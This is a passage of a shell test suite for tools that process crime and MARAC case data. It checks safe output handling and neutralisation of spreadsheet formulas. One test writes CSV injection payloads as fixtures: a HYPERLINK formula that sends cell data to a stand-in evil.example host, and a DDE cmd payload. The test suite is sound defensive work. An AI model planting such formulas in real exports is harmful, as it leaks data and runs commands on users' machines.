			    --as-of 2025-12-31 --previous "crime/$f" \
			    "$H/crime.csv" || bad=1
			mk_check "rank --weights $f" vawg-rank \
			    --weights "crime/$f" "$H/crime.csv" || bad=1
			mk_check "rank --harm $f" vawg-rank \
			    --harm "crime/$f" "$H/crime.csv" || bad=1
		fi
		if need_quiet vawg-marac-pack; then
			mk_check "marac-pack --cases $f" vawg-marac-pack \
			    --cases "marac/$f" --crimes "$H/crime.csv" || bad=1
			mk_check "marac-pack sources $f" vawg-marac-pack \
			    --cases "$H/marac.csv" --crimes "crime/$f" \
			    --orders "order/$f" --wanted "wanted/$f" \
			    --disclosures "disclosure/$f" --marac "marac/$f" \
			    --engagement "engagement/$f" || bad=1
		fi
		if need_quiet vawg-xlsx; then
			mk_check "xlsx $f" vawg-xlsx --table -o out.xlsx \
			    "crime/$f" "order/$f" || bad=1
		fi
	done
	[ "$bad" = 0 ]
}

# --- Standard descriptors ---------------------------------------------------

# Run with standard error closed (and, again, with standard input and
# output closed too) on the planted file, which makes the programs
# speak: the -o file holds only data, never the program's messages.
closed_stderr() {
	local out=out.csv args=("${CMD[@]}") f
	[ "$1" = vawg-xlsx ] && out=out.xlsx
	if [ "$INPUTS" = 1 ]; then
		[ -n "$INOPT" ] && args+=("$INOPT")
		args+=("$H/planted-$KIND.csv")
	fi
	for f in 1 2; do
		rm -f "$out"
		if [ "$f" = 1 ]; then
			"${args[@]}" -o "$out" 2>&-
		else
			"${args[@]}" -o "$out" <&- >&- 2>&-
		fi
		st=$?
		if crashed "$st" || [ ! -s "$out" ]; then
			echo "$1: with descriptors closed exited $st"
			return 1
		fi
		if grep -a -q "$1:" "$out"; then
			echo "$1: its own messages are in $out:"
			grep -a "$1:" "$out" | head -3
			return 1
		fi
	done
	# The messages went nowhere, but the status still tells.
	"${args[@]}" -o "$out" 2>/dev/null
	if [ "$st" != "$?" ]; then
		echo "$1: exit $st with stderr closed, $? with it open"
		return 1
	fi
}

@test "descriptors: with 2>&- (and <&- >&-) the -o file holds only data" {
	each closed_stderr
}

# --- Output paths judged by what they are -------------------------------------

# -o in /dev/shm (a tmpfs under /dev): a regular file like any other,
# so written to a temporary file and renamed at mode 0600.  A hard link
# made to the old file beforehand keeps the old bytes when the file is
# replaced, and gets the new ones when it is written in place.
shm_output() {
	local ext=csv out old
	[ "$1" = vawg-xlsx ] && ext=xlsx
	out=/dev/shm/vawg-hardening-$$-$1.$ext
	old=/dev/shm/vawg-hardening-$$-$1.old
	rm -f "$out" "$old"
	echo previous >"$out"
	chmod 644 "$out"
	ln "$out" "$old"
	EXTRA=()
	(umask 022 && run_prog "$out" "$H/$KIND.csv" && echo "$st" >st)
	st=$(cat st)
	local mode=$(file_mode "$out") kept=$(cat "$old") size=$(stat -c %s "$out")
	local left=$(ls -A /dev/shm | grep "^\.vawg-hardening-$$-$1\.")
	rm -f "$out" "$old"
	if [ "$st" -gt 1 ] || [ "$size" -le 9 ]; then
		echo "$1: -o $out exited $st, $size bytes: $(cat err)"
		return 1
	fi
	if [ "$mode" != 600 ] || [ "$kept" != previous ] || [ -n "$left" ]; then
		echo "$1: -o in /dev/shm: mode $mode, old link holds '$kept'," \
		    "left: $left"
		return 1
	fi
}

@test "outputs: -o /dev/shm/x is written atomically at mode 0600" {
	[ -d /dev/shm ] && [ -w /dev/shm ] || skip "no writable /dev/shm"
	each shm_output
}

@test "outputs: FIFOs and character devices are written directly; folders and dangling links refused" {
	need vawg-dedupe
	mkfifo out.fifo
	cat out.fifo >got.csv &
	vawg-dedupe --key crime_ref -o out.fifo "$H/crime.csv"
	wait
	cmp got.csv <(vawg-dedupe --key crime_ref "$H/crime.csv")
	run -0 vawg-dedupe --key crime_ref -o /dev/null "$H/crime.csv"
	mkdir adir
	run -73 vawg-dedupe --key crime_ref -o adir "$H/crime.csv"
	assert_output --partial "adir: Is a directory"
	ln -s nowhere/x.csv dangling.csv
	run -73 vawg-dedupe --key crime_ref -o dangling.csv "$H/crime.csv"
	assert_output --partial "dangling.csv: symbolic link to nothing"
	[ -L dangling.csv ]
	# A link to a regular file: the file is replaced, the link stays.
	echo old >target.csv
	ln -s target.csv link.csv
	run -0 vawg-dedupe --key crime_ref -o link.csv "$H/crime.csv"
	[ -L link.csv ]
	cmp target.csv <(vawg-dedupe --key crime_ref "$H/crime.csv")
	[ "$(file_mode target.csv)" = 600 ]
}

# --- Outputs that name an input or another output ------------------------------

# collide WHAT ARGS...: the recipe run with ARGS (before the inputs) on
# in.csv must exit 64 with a message naming the clash, leave in.csv
# byte-identical and make no other file.
collide() {
	local what=$1 args=("${CMD[@]}") before after
	shift
	args+=("$@")
	if [ "$INPUTS" = 1 ]; then
		[ -n "$INOPT" ] && args+=("$INOPT")
		args+=(in.csv)
	fi
	before=$(ls -A | sort | tr '\n' ' ')
	"${args[@]}" >../out.stdout 2>../err
	st=$?
	after=$(ls -A | sort | tr '\n' ' ')
	mv ../err err
	if [ "$st" != 64 ] || ! grep -q "^${CMD[0]}: .*same file\|inside" err; then
		echo "${CMD[0]} $what: exited $st: $(head -c 300 err)"
		return 1
	fi
	if ! cmp -s in.csv "$H/$KIND.csv"; then
		echo "${CMD[0]} $what: the input was changed"
		return 1
	fi
	if [ "$before" != "$after" ]; then
		echo "${CMD[0]} $what: files made: $before -> $after"
		return 1
	fi
}

collisions() {
	local s opt name bad=0
	[ "$INPUTS" = 1 ] || return 0
	mkdir w && cd w || return 1
	cp "$H/$KIND.csv" in.csv
	collide "-o the input" -o in.csv || bad=1
	ln -s in.csv alias.csv
	collide "-o a link to the input" -o alias.csv || bad=1
	rm alias.csv
	for s in "${SIDE[@]}"; do
		opt=${s%% *} name=${s#* }
		[ "${name%/}" != "$name" ] && continue
		collide "$opt the input" "$opt" in.csv || bad=1
		collide "$opt and -o the same new file" "$opt" new.csv \
		    -o ./new.csv || bad=1
	done
	[ "$bad" = 0 ]
}

@test "outputs: an output naming an input or another output is exit 64, nothing written" {
	each collisions
}

@test "outputs: collisions of each program's own files" {
	need vawg-ingest
	cp "$H/crime.csv" in.csv
	cp in.csv keep.csv
	# A raw export named as --rejects.
	run -64 vawg-ingest --kind crime --rejects in.csv in.csv
	assert_output --partial "same file"
	cmp in.csv keep.csv
	run -64 vawg-ingest --kind crime --rejects x.csv -o x.csv in.csv
	[ ! -e x.csv ]
	# Both on standard output.
	run -64 vawg-ingest --kind crime --rejects - in.csv
	run -64 vawg-ingest --kind crime --map in.csv -o in.csv in.csv
	cmp in.csv keep.csv
	# /dev/null for both is no clash; neither is one input given twice.
	run -0 vawg-ingest --kind crime --as-of 2026-10-31 --rejects /dev/null \
	    -o /dev/null in.csv in.csv
	if need_quiet vawg-dedupe; then
		run -64 vawg-dedupe --role suspect --pairs p.csv -o p.csv in.csv
		run -64 vawg-dedupe --role suspect --index in.csv in.csv
		cmp in.csv keep.csv
		# The index is read, then rewritten: one file, no clash.
		run -0 vawg-dedupe --role suspect --index idx.csv -o o.csv in.csv
		run -0 vawg-dedupe --role suspect --index idx.csv -o o.csv in.csv
	fi
	if need_quiet vawg-rank; then
		vawg-rank --as-of 2025-12-31 -o prev.csv in.csv
		cp prev.csv prev.keep
		run -64 vawg-rank --as-of 2025-12-31 --previous prev.csv \
		    -o prev.csv in.csv
		cmp prev.csv prev.keep
	fi
	if need_quiet vawg-marac-pack; then
		cp "$H/marac.csv" cases.csv
		run -64 vawg-marac-pack --cases cases.csv --crimes in.csv \
		    --findings cases.csv
		run -64 vawg-marac-pack --cases cases.csv --crimes in.csv \
		    --findings f.csv --audit f.csv
		run -64 vawg-marac-pack --cases cases.csv --crimes in.csv \
		    --findings f.csv --summary s.csv -o f.csv
		mkdir pages
		cp in.csv pages/crimes.csv
		run -64 vawg-marac-pack --cases cases.csv \
		    --crimes pages/crimes.csv --html pages
		assert_output --partial "inside --html pages"
		run -64 vawg-marac-pack --cases cases.csv --crimes in.csv \
		    --html pages --findings pages/f.csv
		cmp pages/crimes.csv in.csv
		[ ! -e f.csv ] && [ ! -e s.csv ] && [ ! -e pages/f.csv ]
		# -o and --summary naming one file write it once.
		run -0 vawg-marac-pack --as-of 2026-10-31 --cases cases.csv \
		    --crimes in.csv --summary s.csv -o s.csv
		cmp cases.csv "$H/marac.csv"
	fi
}

# --- Spreadsheet-safe CSV ------------------------------------------------------

# check_safe SAFE PLAIN: SAFE must be PLAIN with every field that begins
# with = + - @ TAB or CR, and is not a number, written with a single
# quote before it (OWASP's CSV injection guidance), each read with
# Python's csv module; with no such field left bare.
check_safe() {
	"$PY" - "$1" "$2" <<'PY'
import csv, re, sys
num = re.compile(r"^[+-]?([0-9]+\.?[0-9]*|\.[0-9]+)([eE][+-]?[0-9]+)?$")
def rows(p):
    return list(csv.reader(open(p, newline="", encoding="utf-8")))
safe, plain = rows(sys.argv[1]), rows(sys.argv[2])
assert len(safe) == len(plain), (len(safe), len(plain))
changed = 0
for a, b in zip(safe, plain):
    assert len(a) == len(b), (a, b)
    for x, y in zip(a, b):
        risky = y[:1] in ("=", "+", "-", "@", "\t", "\r") and y[:1] != "" \
            and not num.match(y)
        want = "'" + y if risky else y
        assert x == want, (x, y)
        changed += risky
print(changed)
PY
}

# Every program that writes CSV, with --excel-safe, on the hostile file
# of its kind: formulas neutralised, every other byte of every field as
# without it.
excel_safe() {
	local n
	[ "$1" = vawg-xlsx ] && return 0
	EXTRA=(--no-excel-safe)
	case $1 in
	vawg-rank|vawg-marac-pack) ;;
	*) EXTRA=() ;;
	esac
	run_prog plain.csv "$H/hostile-$KIND.csv"
	EXTRA=(--excel-safe)
	run_prog safe.csv "$H/hostile-$KIND.csv"
	if ! ok_status "$st" || ! n=$(check_safe safe.csv plain.csv); then
		echo "$1: --excel-safe exited $st: $(head -c 300 err)"
		return 1
	fi
	echo "# $1: --excel-safe: $n fields neutralised" >&3
}

@test "excel-safe: --excel-safe neutralises formulas in every program's CSV, and nothing else" {
	each excel_safe
}

@test "excel-safe: =HYPERLINK, =cmd|, +1, @SUM: neutralised as OWASP says; numbers and plain values kept" {
	need vawg-dedupe
	"$PY" - >in.csv <<'PY'
import csv, sys
w = csv.writer(sys.stdout, lineterminator="\n")
w.writerow(["crime_ref", "a", "b"])
w.writerow(["1", '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "plain"])
w.writerow(["2", "=cmd|' /C calc'!A0", "-1.5"])
w.writerow(["3", "+1+1", "+1"])
w.writerow(["4", "@SUM(A1:A9)", "-"])
sys.stdout.write('5,\tTAB,"\rCR"\n')	# CR quoted, as RFC 4180 writers do
w.writerow(["6", "a=b", "O'Brien"])
PY
	# Expected bytes written by hand from the guidance: a single quote
	# before the field, and the field quoted.
	cat >want.csv <<'WANT'
crime_ref,a,b
1,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",plain
2,"'=cmd|' /C calc'!A0",-1.5
3,"'+1+1",+1
4,"'@SUM(A1:A9)","'-"
WANT
	printf '5,"'"'"'\tTAB","'"'"'\rCR"\n6,a=b,O'"'"'Brien\n' >>want.csv
	vawg-dedupe --key crime_ref --excel-safe in.csv >got.csv
	cmp got.csv want.csv
	# Without it, byte-exact: CSV between the tools is never changed.
	vawg-dedupe --key crime_ref in.csv | cmp - in.csv
	if need_quiet vawg-ingest; then
		vawg-ingest --kind crime --as-of 2026-10-31 "$H/hostile-crime.csv" \
		    >a.csv 2>/dev/null || true
		vawg-ingest --kind crime --as-of 2026-10-31 --excel-safe \
		    "$H/hostile-crime.csv" >b.csv 2>/dev/null || true
		[ "$(check_safe b.csv a.csv)" -gt 0 ]
	fi
	if need_quiet vawg-stats; then
		vawg-stats count --by ward "$H/hostile-crime.csv" >a.csv
		vawg-stats count --by ward --excel-safe \
		    "$H/hostile-crime.csv" >b.csv
		[ "$(check_safe b.csv a.csv)" -gt 0 ]
	fi
}

@test "excel-safe: vawg-rank and vawg-marac-pack are safe by default; --no-excel-safe for pipes" {
	local n
	if need_quiet vawg-rank; then
		vawg-rank --as-of 2025-12-31 --window 730d --top 0 \
		    "$H/hostile-crime.csv" >safe.csv 2>/dev/null || true
		vawg-rank --as-of 2025-12-31 --window 730d --top 0 \
		    --no-excel-safe "$H/hostile-crime.csv" >plain.csv \
		    2>/dev/null || true
		n=$(check_safe safe.csv plain.csv)
		[ "$n" -gt 0 ]
		# Last month's list, written safe, is read back as it was:
		# every person still there, none new, none left.
		vawg-rank --as-of 2025-12-31 --window 730d --top 0 \
		    --previous safe.csv "$H/hostile-crime.csv" >again.csv \
		    2>/dev/null || true
		"$PY" - again.csv <<'PY'
import csv, sys
m = [r["movement"] for r in csv.DictReader(open(sys.argv[1], newline=""))]
assert m and all(x not in ("new", "left") for x in m), m
PY
	fi
	if need_quiet vawg-marac-pack; then
		vawg-marac-pack --as-of 2026-10-31 --cases "$H/hostile-cases.csv" \
		    --crimes "$H/hostile-crime.csv" --findings f1.csv -o s1.csv \
		    2>/dev/null || true
		vawg-marac-pack --as-of 2026-10-31 --cases "$H/hostile-cases.csv" \
		    --crimes "$H/hostile-crime.csv" --findings f2.csv -o s2.csv \
		    --no-excel-safe 2>/dev/null || true
		n=$(check_safe s1.csv s2.csv)
		[ "$n" -gt 0 ]
		check_safe f1.csv f2.csv
	fi
}
